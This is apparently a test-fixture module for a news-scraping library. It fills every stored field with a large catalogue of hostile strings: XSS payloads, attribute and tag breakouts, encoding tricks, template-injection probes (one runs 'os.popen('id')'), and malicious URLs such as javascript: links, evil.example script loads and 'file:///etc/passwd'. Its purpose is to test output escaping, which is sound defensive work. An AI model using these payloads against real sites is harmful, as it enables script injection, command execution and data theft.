"""Texts that try to run, to load or to break out, and a library that has them in every field it keeps."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

from newsgrab import Article, Author, Evidence, Library, Link, Outcome, PageKind, Tag, TagLinks
from newsgrab.model import Block, Embed, Figure, Heading, Image, ListBlock, Paragraph, QABlock, Quote, Source, Table

__all__ = ["ADDRESSES", "PAYLOADS", "hostile"]

_RUN = "window.__xss=(window.__xss||0)+1"
_ALERT = "alert(document.domain)"

_ELEMENTS = """
<script>{0}</script>
<SCRIPT>{0}</SCRIPT>
<script src="https://evil.example/x.js"></script>
<script src=//evil.example/x.js></script>
<script type="module">{0}</script>
<script/x>{0}</script>
<scr<script>ipt>{0}</scr</script>ipt>
<script>{0}//
<svg><script>{0}</script></svg>
<svg><script href="data:text/javascript,{0}"/></svg>
<math><mtext><script>{0}</script></mtext></math>
<noscript><p title="</noscript><script>{0}</script>"></noscript>
<template><script>{0}</script></template>
<plaintext><script>{0}</script>
<xmp><script>{0}</script></xmp>
<base href="https://evil.example/">
<base href="javascript:{0}//">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:{0}">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="prefetch" href="https://evil.example/">
<link rel="dns-prefetch" href="//evil.example">
<style>@import "https://evil.example/x.css";</style>
<style>*{{background:url(https://evil.example/x)}}</style>
<iframe src="javascript:{0}"></iframe>
<iframe srcdoc="<script>parent.{0}</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="javascript:{0}"></object>
<object data="data:text/html,<script>{0}</script>"></object>
<embed src="javascript:{0}">
<embed src="data:image/svg+xml,<svg onload={0}>">
<form action="https://evil.example/"><button>Go</button></form>
<form action="javascript:{0}"><input type=submit></form>
<button formaction="javascript:{0}">Go</button>
<input type="image" src="x" onerror="{0}">
<a href="javascript:{0}">here</a>
<a href="data:text/html,<script>{0}</script>">here</a>
<a href="https://evil.example/" target="_blank">here</a>
<area href="javascript:{0}" shape="default">
<img src="https://evil.example/pixel.gif">
<img srcset="https://evil.example/pixel.gif 1x">
<picture><source srcset="https://evil.example/a"><img></picture>
<video poster="https://evil.example/a.jpg"></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<image href="https://evil.example/a">
<svg><use href="https://evil.example/a.svg#x"></use></svg>
<svg><image href="https://evil.example/a"/></svg>
<svg><a xlink:href="javascript:{0}"><text>here</text></a></svg>
<svg><foreignObject><script>{0}</script></foreignObject></svg>
<math href="javascript:{0}">here</math>
<frameset><frame src="javascript:{0}"></frameset>
<table background="https://evil.example/a">
<body background="https://evil.example/a">
<div style="background:url(https://evil.example/a)">
<div style="position:fixed;inset:0;z-index:9999">
<portal src="https://evil.example/"></portal>
<isindex type="image" src="x" onerror="{0}">
<html onmouseover="{0}">
<navigation-search url="https://evil.example/"></navigation-search>
"""
_HANDLERS = """
<img src=x onerror={0}>
<img src=x onerror="{0}">
<img src=x onerror='{0}'>
<IMG SRC=x OnErRoR={0}>
<img/src=x/onerror={0}>
<img src=x\tonerror={0}>
<img src=x:x onerror={0}>
<image src=x onerror={0}>
<svg onload={0}>
<svg/onload={0}>
<svg><animate onbegin={0} attributeName=x dur=1s>
<svg><set onbegin={0} attributeName=x>
<svg><style><img src=x onerror={0}></style></svg>
<body onload={0}>
<body onpageshow={0}>
<video><source onerror={0}></video>
<video src=x onerror={0}></video>
<audio src=x onerror={0}></audio>
<details open ontoggle={0}>
<input autofocus onfocus={0}>
<select autofocus onfocus={0}></select>
<textarea autofocus onfocus={0}></textarea>
<keygen autofocus onfocus={0}>
<marquee onstart={0}></marquee>
<object data=x onerror={0}></object>
<iframe onload={0}></iframe>
<link rel=stylesheet href=x onerror={0}>
<script src=x onerror={0}></script>
<style onload={0}></style>
<div onanimationstart={0} style="animation:x 1s">
<div tabindex=1 autofocus onfocus={0}>
<p onpointerenter={0}>over</p>
<a onmouseover={0}>over</a>
<math><mi//xlink:href="data:x,<script>{0}</script>">
<math><mtext><table><mglyph><style><img src=x onerror={0}>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>
"""
_BREAKERS = """
"><script>{0}</script>
'><script>{0}</script>
`><script>{0}</script>
></a><script>{0}</script>
"><img src=x onerror={0}>
'><img src=x onerror={0}>
" onmouseover="{0}
' onmouseover='{0}
" autofocus onfocus="{0}
' autofocus onfocus='{0}
" onfocus={0} autofocus x="
`onfocus={0} autofocus
 onfocus={0} autofocus tabindex=1
</title><script>{0}</script>
</title><svg onload={0}>
</textarea><script>{0}</script>
</style><script>{0}</script>
</script><script>{0}</script>
</script><img src=x onerror={0}>
</noscript><img src=x onerror={0}>
</template><img src=x onerror={0}>
</select><img src=x onerror={0}>
</bdi></p></article></main><script>{0}</script>
--><script>{0}</script>
--!><img src=x onerror={0}>
<!--><img src=x onerror={0}>-->
<![CDATA[<img src=x onerror={0}>]]>
]]><img src=x onerror={0}>
*/</style><img src=x onerror={0}>
';{0};//
";{0};//
\\";{0};//
\\u003cscript\\u003e{0}\\u003c/script\\u003e
\\x3cscript\\x3e{0}\\x3c/script\\x3e
</script
<!--
<?php echo 1 ?><img src=x onerror={0}>
<a href="
&lt;script&gt;{0}&lt;/script&gt;
&#60;script&#62;{0}&#60;/script&#62;
&#x3c;img src=x onerror={0}&#x3e;
%3Cscript%3E{0}%3C/script%3E
+ADw-script+AD4-{0}+ADw-/script+AD4-
\x00<script>{0}</script>
<\x00script>{0}</script>
<scr\x00ipt>{0}</script>
<img src=x\x00 onerror={0}>
<\u200bscript>{0}</script>
\ufeff<script>{0}</script>
\uff1cscript\uff1e{0}\uff1c/script\uff1e
\u2039script\u203a{0}\u2039/script\u203a
<\u017fcript>{0}</\u017fcript>
\u202e>tpircs/<{0}>tpircs<\u202c
\u2066<script>{0}</script>\u2069
‹<img src=x onerror={0}>›
a\u0300\u0301\u0302\u0303\u0304<svg onload={0}>
"""
_TEMPLATES = """
{{7*7}}
{{{{7*7}}}}
{% raw %}{{7*7}}{% endraw %}
{%25 for x in y %}
{# comment #}
{{config}}
{{request.application.__globals__}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
${7*7}
#{7*7}
<%= 7*7 %>
@(7*7)
[[7*7]]
{{constructor.constructor('window.__xss=1')()}}
{{$on.constructor('window.__xss=1')()}}
"""
_ADDRESSES = """
javascript:{0}
JaVaScRiPt:{0}
 javascript:{0}
java\tscript:{0}
java\x0bscript:{0}
javascript\t:{0}
\x01javascript:{0}
javascript&colon;{0}
javascript&#58;{0}
javascript:{0}//https://good.example/
javascript://good.example/%0a{0}
javascript:"https://good.example/";{0}
data:text/html,<script>{0}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload={0}>
vbscript:msgbox(1)
livescript:{0}
feed:javascript:{0}
view-source:javascript:{0}
blob:https://evil.example/1
file:///etc/passwd
about:blank
mailto:a@evil.example?body=x
//evil.example/x
\\\\evil.example\\x
/\\evil.example/x
http:javascript:{0}
https:/\\evil.example
https://
https:///
http://[
https://evil.example" onmouseover="{0}
https://evil.example' onmouseover='{0}
https://evil.example/><script>{0}</script>
https://evil.example/`onmouseover={0}
https://evil.example/\x00
https://evil.example/\u202ecod.exe
https://user:pw@evil.example/
/-/logout
../../-/logout
#javascript:{0}
"""


def _filled(texts: str) -> list[str]:
    lines = [line for line in texts.strip("\n").split("\n") if line]
    return [line.replace("{0}", _ALERT if number % 7 == 3 else _RUN) for number, line in enumerate(lines)]


PAYLOADS: tuple[str, ...] = (
    *(text.replace("{{", "{").replace("}}", "}") for text in _filled(_ELEMENTS)),
    *_filled(_HANDLERS),
    *_filled(_BREAKERS),
    *_filled(_TEMPLATES),
)
"""For every text."""
ADDRESSES = tuple(text.replace("\x0b", "\n") for text in _filled(_ADDRESSES))
"""For everything that is to be an address."""


def hostile(path: Path) -> None:
    """A library that has every payload in every field of a kind, and all kinds of rows."""
    with Library(path) as library:
        for number, text in enumerate(PAYLOADS, 1):
            if text.isprintable():  # which names of sources are
                library.save_source(Source(name=f"{number} {text}", url=f"https://site{number}.example/"))
        run = library.start_run("add", note=" ".join(PAYLOADS))
        for article in _articles():
            library.record(run, str(article.url), Outcome.OK, article=article, detail=article.title)
        for number, text in enumerate(PAYLOADS):
            library.record(run, f"{ADDRESSES[number % len(ADDRESSES)]}#{number}", Outcome.NOT_ARTICLE, detail=text)
        library.finish_run(run, summary=dict.fromkeys(PAYLOADS, 1))
        for article in _articles():
            library.save(
                article.model_copy(update={"title": f"{article.title} {article.title}", "body": article.body[1:]})
            )


def _articles() -> Iterator[Article]:
    """One with all payloads in each list; then one for each payload, which has it and those after it in its fields.

    So every fourth of them have every payload in the head, and all of them have every payload in every field.
    """
    texts, urls = PAYLOADS, [ADDRESSES[number % len(ADDRESSES)] for number in range(len(PAYLOADS))]
    yield _article(0, texts, urls)
    for number in range(len(PAYLOADS)):
        shifted = texts[number:] + texts[:number]
        yield _article(number + 1, shifted[:4], urls[number : number + 4] or urls[:4])


def _article(number: int, texts: tuple[str, ...], urls: list[str]) -> Article:
    text, url = texts[0], urls[0]
    pairs = list(zip(texts, urls, strict=False))
    moment = datetime(2026, 1, 1, tzinfo=UTC)
    return Article(
        url=f"{url}?{number}",
        canonical_url=urls[-1],
        title=text,
        lead=texts[1],
        description=texts[2],
        body=[block for text, url in pairs for block in _blocks(text, url)],
        qa=[
            QABlock(position=position, question=text, answer=f"{text}\n\n{text}", asker=text, answerer=text)
            for position, text in enumerate(texts, 1)
        ],
        tags=[Tag(name=text, url=url) for text, url in pairs],
        related=[
            TagLinks(tag=text, tag_url=url, heading=text, links=[Link(title=text, url=url)]) for text, url in pairs
        ],
        authors=[Author(name=text, url=url) for text, url in pairs],
        date_published=moment,
        date_modified=moment,
        language=texts[1],
        site_name=texts[2],
        section=texts[3],
        images=[Image(url=url, alt=text, caption=text, credit=text) for text, url in pairs],
        page_kind=PageKind.INTERVIEW,
        provenance={text: Evidence(source=text, raw=text, confidence=0.5, note=text) for text in texts},
    )


def _blocks(text: str, url: str) -> Iterator[Block]:
    yield Paragraph(text=f"{text}\n{text}")
    yield Heading(text=text, level=2)
    yield Quote(text=text, cite=text)
    yield Quote(text=text, cite=url)
    yield ListBlock(items=[text, text])
    yield Table(rows=[[text, text], [text, text]])
    yield Figure(url=url, alt=text, caption=text, credit=text)
    yield Figure(alt=text)
    yield Embed(url=url)
